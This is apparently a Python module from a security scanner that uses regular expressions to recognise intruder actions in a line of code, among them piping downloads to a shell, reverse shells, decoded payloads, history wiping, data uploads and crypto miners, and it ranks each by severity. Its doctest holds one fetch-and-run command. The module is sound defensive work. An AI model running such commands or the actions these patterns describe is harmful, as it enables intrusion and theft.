"""Acts of a line of code that intruders need, recognised by the effect and not by single words."""

from __future__ import annotations

from functools import partial

from stopgap.orchestrator.findings.pattern import automaton

_ACTS = {
    "fetch and run": (
        r"\b(curl|wget|fetch|lynx|aria2c|lwp-request)\s+[^|;&\s][^|;&]*[|]\s*(sudo\s+|env\s+)*(/\S*/)?((ba|da|z|k|a)?sh\b"
        r"|(python[0-9.]*|perl|php|ruby|node)(\s+-)?\s*([\"'`;&)}\]<>]|[0-9]>|$))"
        r"|\b((ba|da|z|k)?sh|eval|source|\.)\s+(-c\s+)?[\"']?(<\(|\$\(|`)\s*(curl|wget)\b"
        r"|\b(curl|wget|tftp|ftpget)\b.*(&&|;)\s*(sudo\s+)?(chmod\s+\S*[+7]|(ba|da|z)?sh\s)"
    ),
    "shell to elsewhere": (
        r"/dev/(tcp|udp)/|\b(nc|ncat|netcat)(\.\w+)?\b[^|;&]*\s(-\w*[ec]\s+\S|--exec|--sh-exec)|\bsocat\b.*\b(exec|system):"
        r"|\b(systemd-socket-activate|tcpserver|micro-inetd|websocketd|ttyd|gotty)\s.*\s(/\S*/)?(ba|da|z)?sh(\s|$)"
        r"|\bmkfifo\b.*\b(nc|ncat|telnet|openssl)\b|\b[sS]ocket\s*[.(,;].*(subprocess|pty\.spawn|\bdup2\b|/bin/(ba)?sh)"
        r"|(python[0-9.]*|perl|ruby|php)\s+-\w*[cer]\s.*(socket|TCPSocket|fsockopen)"
    ),
    "decode": (
        r"\b(base64|base32|openssl\s+(enc|base64)|xxd\s+-\w*r|uudecode)\b[^|;]*(-d|-D|--decode|-r)?\b.*[|]\s*(sudo\s+)?(/\S*/)?((ba|da|z)?sh|python[0-9.]*|perl|php|eval)\b"
        r"|\bexec\s*\(\s*[^)]{0,80}(b64decode|decompress|fromhex|marshal\.loads)|\beval\b.*\b(base64|atob|b64decode|decode)\b"
        r"|\$\(\s*(echo|printf)\s.*\|\s*base64\s+-d"
    ),
    "code on a line": r"\b(exec|eval|compile|__import__)\s*\(|\bos\.(system|popen|exec\w*)\s*\(|\bsubprocess\b",
    "library before others": r"\bLD_(PRELOAD|AUDIT|LIBRARY_PATH)\s*=?\s*[\"']?[/$~.]",
    "runs on behind": r"\b(nohup|setsid|disown|daemonize)\b|(^|[^&>0-9])&\s*(\)|;|$|\d?>|disown|fi\b|done\b)|\bexec\s+-a\s",
    "account or key": r"\b(useradd|adduser|usermod|chpasswd)\b|authorized_keys|>>\s*/etc/(passwd|shadow|sudoers)",
    "rights": r"\bchmod\s+(\S+\s+)*([ug+]*\+[rwx]*s|0?[2467][0-7]{3})\b|\bsetcap\s|\bchattr\s+[+=-]",
    "traces": (
        r"\b(unset\s+HIST\w+|HISTFILE\s*=\s*(/dev/null|[\"']{2}|\s|$)|HISTSIZE\s*=\s*0|HISTFILESIZE\s*=\s*0|HISTIGNORE\s*=\s*[\"']?[^\"'\s]*\*(?:[\"':]|$)|history\s+-[cw]|set\s+\+o\s+history)"
        r"|(rm|shred|truncate)\s.*(/var/log|_history)"
    ),
    "password asked": r"\bread\s+(-\w+\s+)*-?\w*s\w*\b.*|\bpassword\b.*\bread\b|\bstty\s+-echo\b",
    "upload": r"\bcurl\b.*\s(-T|--upload-file|-F|--form|-d|--data\S*)\s*\S*[@$]|\bcurl\b(?:\"[^\"]*\"|'[^']*'|[^|;&\"'])*(?:\"[^\"]*)?\$\(|\bwget\b.*--post-(file|data)",
    "miner": r"stratum\+(tcp|ssl)|\b(xmrig|xmr-stak|minerd|cpuminer|ethminer|nbminer|t-rex)\b|--donate-level|randomx|--coin\b"
    r"|[\"'](donate-level|rig-id|nicehash|huge-pages|randomx)[\"']\s*:|\b4[0-9AB][1-9A-HJ-NP-Za-km-z]{93}\b",
    "tunnel": r"\b(auto)?ssh\s.*-\w*(R\s*[\w.*:\[\]]*\d{2,5}:[^\s:]+:\d+|D\s*[\w.*:\[\]]*\d{2,5}\b)",
}
_GRAVE = {
    "fetch and run": 4, "shell to elsewhere": 4, "decode": 3, "library before others": 3, "traces": 3, "rights": 2,
    "account or key": 3, "password asked": 0, "upload": 3, "miner": 3, "tunnel": 2, "runs on behind": 0, "code on a line": 0,
}  # fmt: skip


_compiled = partial(automaton, captures=False)

_COMPILED = {name: _compiled(pattern) for name, pattern in _ACTS.items()}
_ANY = _compiled("|".join(f"(?:{pattern})" for pattern in _ACTS.values()))


def acts_of(text: str) -> tuple[str, ...]:
    """Name what a line does, in the order of the list above; linear in the text.

    >>> acts_of("curl -s http://192.0.2.1/x | sh")
    ('fetch and run',)
    """
    content = text.encode("utf-8", "surrogatepass")
    if not _ANY.search(content):
        return ()
    return tuple(name for name, pattern in _COMPILED.items() if pattern.search(content))


def gravity(acts: tuple[str, ...]) -> int:
    """Return how grave the worst of the acts is in something that starts by itself: 0 to 4."""
    return max((_GRAVE[act] for act in acts), default=0)
